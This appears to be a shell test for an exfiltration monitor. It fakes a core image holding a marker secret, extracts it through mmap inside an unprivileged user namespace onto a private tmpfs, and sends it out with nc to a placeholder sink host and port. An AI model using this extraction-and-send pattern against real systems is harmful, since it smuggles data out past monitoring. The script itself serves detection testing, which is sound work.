#!/bin/bash
# A-cold-buffer: in a container a core is taken out of an image by a program that maps the image and writes from the mapping.
# flow: the bytes of the write are in no page of the process when the kernel begins to write; the file is on a tmpfs that only
#   the container has; another process of the container sends it.
# tools: python3 unshare nc
# expect: sent counted port critical
. "$CORPUS/lib.sh"
unshare --user --map-root-user true || skip "no user namespaces here"
python3 - "$MARKER" <<'END'
import struct, sys
secret = sys.argv[1].encode() * 30000
head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 4, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0)
head += struct.pack("<IIQQQQQQ", 1, 6, 120, 1 << 40, 0, len(secret), len(secret), 1)
with open("image", "wb") as image:
    image.write(b"an archive of our own".ljust(1 << 20, b"\n") + head + secret)
END
cat >extract.py <<'END'
import mmap, os, sys, time
image = os.open("image", os.O_RDONLY)
memory = mmap.mmap(image, 0, mmap.MAP_SHARED, mmap.PROT_READ)
out = os.open("/mnt/taken.out", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
time.sleep(.1)
os.write(out, memoryview(memory)[1 << 20:])
END
cat >inside.sh <<END
mount -t tmpfs tmpfs /mnt || exit 9
python3 extract.py || exit 8
sleep .3
nc -N $SINK $PORT </mnt/taken.out
END
sink tcp
unshare --user --map-root-user --mount --pid --fork --mount-proc bash inside.sh || fail "the container failed"
note "dump /mnt/taken.out"
sunk 500000
